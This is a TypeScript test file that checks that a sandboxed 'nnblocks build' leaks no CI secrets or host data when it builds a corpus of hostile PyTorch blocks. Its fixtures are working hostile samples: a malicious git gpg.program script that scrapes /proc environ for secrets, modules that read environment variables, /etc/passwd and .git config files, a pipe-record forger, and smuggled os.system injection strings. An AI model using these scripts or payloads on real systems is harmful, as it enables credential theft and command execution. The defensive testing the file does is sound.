// A whole `nnblocks build` over a corpus with hostile blocks beside honest ones, as root with a secret in the
// environment and in the checkout's .git/config (as CI leaves it): the build exits 0, every output file is
// schema-valid, the secret and the host facts the blocks smuggle out appear nowhere, forged records are protocol
// errors, and the honest blocks keep their records. The checkout itself is hostile too: its config names a
// gpg.program for a signed HEAD, which (when git ran it, as root on the host) read the build's environment from /proc
// and planted a block publishing the secret.
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkCatalog } from '../../pipeline/catalog/check-catalog.ts';
import { runCli } from '../../pipeline/cli/main.ts';
import { signHead } from '../helpers/markers.ts';
import { gitIn, gitRepo, py, tempDir } from '../helpers/tree.ts';
import { catalogFiles } from './catalog-files.ts';

const CANARY = `nnb-secret-${process.pid}-canary`;
const quiet = () => ({ out: () => {}, err: () => {}, isTTY: false, ci: true, json: true });

/** Writes a "final" record on the block's own result pipe (the only pipe it may write) and leaves. */
const FORGE = py`
  import fcntl, json, os, stat
  def forge(record):
      line = (json.dumps({"t": "final", **record}) + "\\n").encode()
      for fd in range(3, 256):
          try:
              if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                  os.write(fd, line)
          except OSError:
              pass
      os._exit(0)
  VALID = {"status": "passed", "failureClass": None, "failureDetail": None, "stages": [],
           "recipe": {"seed": 0, "kwargs": {}, "inputs": []}, "outputs": [], "params": 1, "buffers": 0,
           "gradients": None, "peakMemoryBytes": None, "moduleTree": None, "fidelity": {"status": "n/a"}}
`;

let catalog: string;
let exit: number;
let planted: string;

/**
 * gpg.program of the checkout: plants a block whose default argument is the secret it finds in /proc (a CI secret
 * is in the build's initial environment; the test's canary, set at run time, is not in /proc: the block is the sign).
 */
const GPG_PLANT = `#!/bin/sh
secret=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep NNBLOCKS_CANARY | head -n 1)
cat > hostile/planted.py <<EOF
import torch.nn as nn
class Planted(nn.Module):
    def __init__(self, loot="$secret"):
        super().__init__()
    def forward(self, x):
        return x
EOF
`;

beforeAll(async () => {
  const repo = gitRepo({
    'hostile/__init__.py': '',
    'hostile/honest.py': py`
      import torch.nn as nn
      class Honest(nn.Module):
          def __init__(self, dim=4):
              super().__init__()
              self.fc = nn.Linear(dim, 2)
          def forward(self, x):
              return self.fc(x)
    `,
    'hostile/thief.py': py`
      import os, torch.nn as nn
      class Thief(nn.Module):
          def __init__(self):
              super().__init__()
              loot = [repr(dict(os.environ))]
              for path in ("/proc/self/environ", "/proc/1/environ", "/proc/2/environ", "/etc/passwd", "/proc/cmdline"):
                  try:
                      loot.append(open(path, "rb").read().decode("latin-1"))
                  except OSError as e:
                      loot.append(str(e))
              raise RuntimeError(" ".join(loot))
          def forward(self, x):
              return x
    `,
    // Its original is itself, so its sandbox shows this checkout (for fidelity): all of it but the git metadata.
    'hostile/git_thief.py': py`
      import os, torch.nn as nn
      class GitThief(nn.Module):
          def __init__(self):
              super().__init__()
              loot = []
              for d, dirs, files in os.walk("/"):
                  if d.startswith(("/proc", "/sys", "/usr", "/dev", "/var", "/nnb")):
                      dirs[:] = []
                      continue
                  if d.endswith("/.git") or "config" in files:
                      for f in files:
                          try:
                              loot.append(open(os.path.join(d, f), errors="replace").read())
                          except OSError:
                              pass
              raise RuntimeError("loot " + " ".join(loot)[:1400])
          def forward(self, x):
              return x
    `,
    'hostile/leaky_type.py': py`
      import torch.nn as nn
      class Leak(nn.Module):
          def forward(self, x):
              return x
      try:
          Leak.__qualname__ = open("/etc/passwd").read()[:150]
      except OSError:
          Leak.__qualname__ = "root:x:0:0:root:/root:/bin/bash"
      class LeakyType(nn.Module):
          def __init__(self):
              super().__init__()
              self.inner = Leak()
          def forward(self, x):
              return self.inner(x)
    `,
    'hostile/injector.py':
      FORGE +
      py`
      import torch.nn as nn
      class Injector(nn.Module):
          def __init__(self):
              super().__init__()
              forge({**VALID, "recipe": {"seed": 0, "kwargs": {"__import__('os').system('touch /tmp/pwned')": 1},
                                         "inputs": [{"shape": [1], "dtype": "float32); __import__('os').system('id') #"}]}})
          def forward(self, x):
              return x
    `,
    'hostile/malformed.py':
      FORGE +
      py`
      import torch.nn as nn
      class Malformed(nn.Module):
          def __init__(self):
              super().__init__()
              forge({"status": "passed", "params": "lots", "stages": "none"})
          def forward(self, x):
              return x
    `,
    'evil.sh': GPG_PLANT,
  }).dir;
  execFileSync('chmod', ['+x', join(repo, 'evil.sh')]);
  gitIn(repo, 'commit', '-qam', 'executable');
  gitIn(repo, 'config', 'gpg.program', './evil.sh');
  gitIn(repo, 'config', 'log.showSignature', 'true');
  signHead(repo);
  planted = join(repo, 'hostile', 'planted.py');
  // What actions/checkout leaves in a CI checkout's .git/config.
  gitIn(repo, 'config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${CANARY}`);
  const cfgDir = tempDir('nnb-hostile-cfg-');
  const config = join(cfgDir, 'corpus.json');
  writeFileSync(
    config,
    JSON.stringify({
      name: 'hostile',
      cacheDir: join(cfgDir, 'cache'),
      sources: [{ id: 'h', kind: 'path', path: repo }],
    }),
  );
  catalog = tempDir('nnb-hostile-cat-');
  process.env.NNBLOCKS_CANARY = CANARY;
  try {
    exit = await runCli(['build', '--config', config, '--out', catalog, '--json', '--device', 'cpu'], quiet);
  } finally {
    delete process.env.NNBLOCKS_CANARY;
  }
}, 240_000);

afterAll(() => {
  delete process.env.NNBLOCKS_CANARY;
});

const block = (slug: string) => JSON.parse(readFileSync(join(catalog, 'blocks', `${slug}.json`), 'utf8'));

describe('a build over hostile blocks', () => {
  it('exits 0 with a schema-valid catalog', () => {
    expect(exit).toBe(0);
    expect(checkCatalog(catalog).errors).toEqual([]);
  });

  it('runs no program the checkout’s git config names: nothing is planted, nothing of it published', () => {
    expect(existsSync(planted)).toBe(false);
    for (const [name, text] of catalogFiles(catalog)) expect(text.includes('Planted'), name).toBe(false);
  });

  it('publishes neither the environment secret nor host facts, in any file', () => {
    for (const [name, text] of catalogFiles(catalog)) {
      expect(text.includes(CANARY), name).toBe(false);
      expect(text.includes('root:x:0:0'), name).toBe(false);
      expect(text.includes("__import__('os')"), name).toBe(false);
      expect(text.includes('BOOT_IMAGE'), name).toBe(false);
    }
  });

  it('turns forged records into protocol errors and keeps the honest block', () => {
    expect(block('h.hostile.honest.honest').validation).toMatchObject({ status: 'passed', params: 10 });
    expect(block('h.hostile.injector.injector').validation).toMatchObject({
      status: 'failed',
      failureClass: 'protocol-error',
    });
    expect(block('h.hostile.malformed.malformed').validation).toMatchObject({
      status: 'failed',
      failureClass: 'protocol-error',
    });
    // The thieves never pass: what they reach for is not there, so they end failed or, where that leaves them
    // without an input they accept, not run automatically (contract/harness.ts); never with a stolen value.
    for (const id of ['h.hostile.thief.thief', 'h.hostile.git_thief.gitthief'])
      expect(['failed', 'not-run'], id).toContain(block(id).validation!.status);
  });

  it('records how the sandbox ran in build-info.json', () => {
    const info = JSON.parse(readFileSync(join(catalog, 'build-info.json'), 'utf8'));
    expect(info.sandbox).toMatchObject({ enabled: true, uid: 65534, capEff: '0000000000000000', noNewPrivs: true });
  });
});
